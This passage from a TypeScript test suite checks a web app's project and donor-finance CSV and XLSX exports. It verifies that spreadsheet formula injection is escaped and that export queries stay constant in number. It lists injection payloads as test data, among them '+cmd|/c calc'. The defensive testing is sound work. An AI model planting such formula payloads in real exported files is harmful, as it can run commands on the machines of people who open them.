      `/exports/projects/${ids.j1}/finance.csv?table=donors`,
      `/exports/projects/${ids.j1}/logframe.csv`,
      `/exports/portfolio.csv?table=projects`,
    ];
    const seen = new Set<string>();
    for (const url of csvs) {
      const { rows } = await csvOf(await get(url, { cookie: admin.cookie }));
      for (const r of rows) {
        for (const [column, cell] of Object.entries(r)) {
          seen.add(cell);
          // Only a number may start with a minus sign.
          if (FORMULA_START.test(cell)) expect(cell, `${url} ${column}`).toMatch(/^-\d+(\.\d+)?$/);
        }
      }
    }
    for (const payload of [HYPERLINK, '+cmd|/c calc', '-2+3', '@SUM(A1) Foundation', '=1+1', '@mention the team', '+Victims are identified']) expect(seen, payload).toContain(`'${payload}`);
    for (const url of [...csvs.map((u) => u.replace('.csv', '.xlsx').replace(/\?table=\w+$/, '')), `/exports/donor-funding.xlsx?organisationId=${org.d1}`]) await bookOf(await get(url, { cookie: admin.cookie }));
  });
});

describe('export reads', () => {
  it('take the same number of statements however many rows the files hold', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const statements = async (url: string) => {
      await (await get(url, { cookie: admin.cookie })).arrayBuffer();
      api.sql.reset();
      expect((await get(url, { cookie: admin.cookie })).status).toBe(200);
      return api.sql.count;
    };
    const urls = [`/exports/projects.xlsx?programmeId=${ids.g2}`, `/exports/projects/${ids.j3}/finance.xlsx`, `/exports/projects.csv`];
    const before = [];
    for (const url of urls) before.push(await statements(url));
    expect(Math.min(...before)).toBeGreaterThan(0);
    for (let i = 0; i < 3; i++) {
      await makeProject(api, ids.g2, { recipientCountries: [{ country: 'KE', percentage: 100 }], focusAreas: ['HIV_PRISONS'] });
      await api.ok(`mutation($i: BudgetInput!) { createBudget(input: $i) { id } }`, { i: { projectId: ids.j3, periodStart: `${2030 + i}-01-01`, periodEnd: `${2030 + i}-12-31`, amount: '10', currency: 'EUR', valueDate: `${2030 + i}-01-01` } });
      await api.ok(`mutation($i: TransactionInput!) { createTransaction(input: $i) { id } }`, { i: { projectId: ids.j3, type: '4', transactionDate: `2024-0${i + 1}-15`, amount: '5', currency: 'USD', providerId: org.lead } });
    }
    const after = [];
    for (const url of urls) after.push(await statements(url));
    expect(after).toEqual(before);
  });
});
